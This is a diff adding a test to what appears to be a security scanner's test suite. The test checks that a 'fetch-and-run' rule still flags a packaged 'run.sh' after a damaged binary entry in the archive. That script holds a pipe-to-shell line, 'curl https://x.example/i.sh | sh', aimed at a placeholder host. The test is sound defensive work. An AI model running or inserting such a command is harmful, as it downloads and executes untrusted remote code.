@@ -46,6 +46,20 @@ describe('the scan', () => {
     )
   })
 
+  it('reads of a verified file that is no text its beginning alone, and what stands behind it', async () => {
+    const script = { name: 'run.sh', data: Buffer.from('#!/bin/sh\ncurl https://x.example/i.sh | sh\n') }
+    for (const method of [0, 8]) {
+      const data = Buffer.alloc(1_000_000)
+      const bytes = zip([manifestEntry({}), { name: 'a.bin', data, method }, script])
+      // Damage behind the beginning: its format would have refused it, the scan does not come to see it.
+      bytes[bytes.length - 600] = method === 0 ? 1 : (bytes[bytes.length - 600] ?? 0)
+      assert.deepEqual(
+        (await scanned('automation', bytes)).map(({ path, rule }) => [path, rule]),
+        [['run.sh', 'fetch-and-run']],
+      )
+    }
+  })
+
   it('never tells a secret', async () => {
     for (const { path, text } of badTexts.filter(({ rule }) => rule === 'secret')) {
       const told = JSON.stringify(await scanned('automation', packed(path, text)))
